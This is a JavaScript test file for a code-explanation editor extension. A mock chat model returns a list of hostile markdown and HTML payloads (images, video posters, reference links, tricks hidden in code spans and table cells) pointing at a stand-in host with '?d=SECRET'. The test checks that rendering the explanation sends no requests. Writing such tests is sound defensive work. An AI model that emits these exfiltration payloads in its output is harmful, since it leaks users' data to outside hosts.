// Explanations of a model that was made to write what would load something. Invariant: rendered, they ask nobody for anything; the
// test sees what is asked for, as a page of the folder with the same text shows.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { after, afterEach, before, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { FUNCTION } from "./texts.mjs";
import { ROOT, until, Workbench } from "./workbench.mjs";

// No name of the network: what is asked for never gets as far as that.
const ELSEWHERE = "https://127.0.0.1:1";
const HOSTILE = [
  "It **sums** the rows.",
  `![a](${ELSEWHERE}/image?d=SECRET)`,
  `![b](<${ELSEWHERE}/angled?d=SECRET>)`,
  "![c][reference]",
  `[![d](${ELSEWHERE}/nested?d=SECRET)](https://docs.example/a)`,
  `<img src="${ELSEWHERE}/html?d=SECRET">`,
  `<video poster="${ELSEWHERE}/poster?d=SECRET"></video>`,
  `a \`odd <img src="${ELSEWHERE}/code?d=SECRET">`,
  `| \`x | <img src="${ELSEWHERE}/cell?d=SECRET"> \` |\n|---|---|\n| 1 | 2 |`,
  `- a\n  \`\`\`\n![e](${ELSEWHERE}/fence?d=SECRET)`,
  `[reference]: ${ELSEWHERE}/reference?d=SECRET`,
  "The end.",
].join("\n\n");

let bench;
let window;
let server;
/** What the editor's page and its frames ask other places for. */
const requests = [];

before(async () => {
  server = spawn("python3", [`${ROOT}/tests/editors/chat_server.py`, JSON.stringify([[HOSTILE]])], { stdio: ["pipe", "pipe", "inherit"] });
  const port = await new Promise((settle) => server.stdout.once("data", (data) => settle(String(data).trim())));
  bench = await Workbench.start({
    files: { "explain.py": FUNCTION, "hostile.md": HOSTILE },
    settings: {
      "fimble.chat": `openai:script@http://127.0.0.1:${port}`,
      // Opened as an explanation is shown.
      "workbench.editorAssociations": { "hostile.md": "vscode.markdown.preview.editor" },
    },
  });
  bench.context.on("request", (request) => request.url().startsWith(ELSEWHERE) && requests.push(request.url()));
  window = await bench.ready("explain.py");
});
afterEach(() => window?.picture("last-markdown"));
after(async () => {
  await bench?.close();
  server?.stdin.end();
});

/** All words on the page and in its frames. */
async function words() {
  const texts = window.page.frames().map((frame) => frame.evaluate(() => document.body?.innerText ?? "").catch(() => ""));
  return (await Promise.all(texts)).join(" ").replace(/[\s*]+/g, " ");
}

/** What is on the page and in its frames that loads, or leads elsewhere. */
async function loading() {
  const found = window.page.frames().map((frame) =>
    frame.evaluate((place) => [...document.querySelectorAll("img, video, a")].map((element) => element.outerHTML).filter((html) => html.includes(place)), ELSEWHERE)
      .catch(() => []));
  return (await Promise.all(found)).flat();
}

test("an explanation is rendered and asks nobody for anything", async () => {
  await window.press("ArrowUp");
  await until("the explanation", async () => {
    await window.command("Fimble: Explain This Code");
    for (let n = 0; n < 150; n++) {
      if ((await words()).includes("The end.")) return true;
      await pause(20);
    }
    return false;
  });
  assert.ok((await words()).includes("It sums the rows."));
  await window.picture("hostile-explained");
  assert.deepEqual(await loading(), []);
  assert.deepEqual(requests, []);
});

// Last, because what it loads would be taken for what the explanation loads.
test("the same text in a file is seen to ask", async () => {
  await window.press("Escape");
  await window.pick("hostile.md", "Control+p");
  await until("a request", () => requests.length > 0);
  await until("what loads", async () => (await loading()).length > 0);
});
